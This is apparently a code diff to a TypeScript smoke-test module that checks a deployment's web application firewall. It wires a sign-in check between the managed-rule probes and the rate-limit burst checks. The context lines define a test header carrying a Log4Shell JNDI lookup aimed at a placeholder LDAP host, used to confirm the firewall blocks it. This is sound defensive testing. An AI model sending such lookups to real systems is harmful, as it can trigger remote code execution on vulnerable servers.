@@ -1,6 +1,7 @@
 /**
  * The edge checks of `--check-waf`, run after every other check because they
- * leave this address refused for a while:
+ * leave this address refused for a while (the sign-in path's spellings, with a
+ * web base URL, between the two kinds below: sign-in-spellings.ts):
  *
  * - A managed rule's block: a request carrying a Log4Shell lookup in a header
  *   (the known-bad-inputs group's Log4JRCE_HEADER) must be blocked by WAF's
@@ -25,6 +26,7 @@ import { EDGE_REQUEST_ID, REQUEST_BLOCKED_STATUS } from '../../lib/constructs/er
 import { pass, skip, type SmokeCheck, type SmokeContext } from './check';
 import { CheckFailure, edgeRejectionProblems, errorProblems, failOn, type ErrorShape } from './expectations';
 import type { Probe } from './probe';
+import { signInSpellings } from './sign-in-spellings';
 
 /** A header value the known-bad-inputs group blocks on any surface (the developer guide's Log4JRCE_HEADER example). */
 export const MANAGED_RULE_PROBE_HEADER = { 'X-Smoke-Probe': '${jndi:ldap://smoke.invalid/probe}' };
@@ -116,8 +118,11 @@ function burstToEdge429(target: EdgeTarget): SmokeCheck {
 
 const seconds = (ms: number) => (ms / 1000).toFixed(1);
 
-/** The managed-rule probes first: after a burst, every request of this address gets 429. */
+/**
+ * The managed-rule probes first, then the sign-in path's spellings (they leave only this address's sign-ins refused):
+ * after a burst, every request of this address gets 429.
+ */
 export function edgeChecks(withWeb: boolean): SmokeCheck[] {
   const targets = withWeb ? [PARTNER, WEB] : [PARTNER];
-  return [...targets.map(managedRuleBlock), ...targets.map(burstToEdge429)];
+  return [...targets.map(managedRuleBlock), ...(withWeb ? [signInSpellings] : []), ...targets.map(burstToEdge429)];
 }
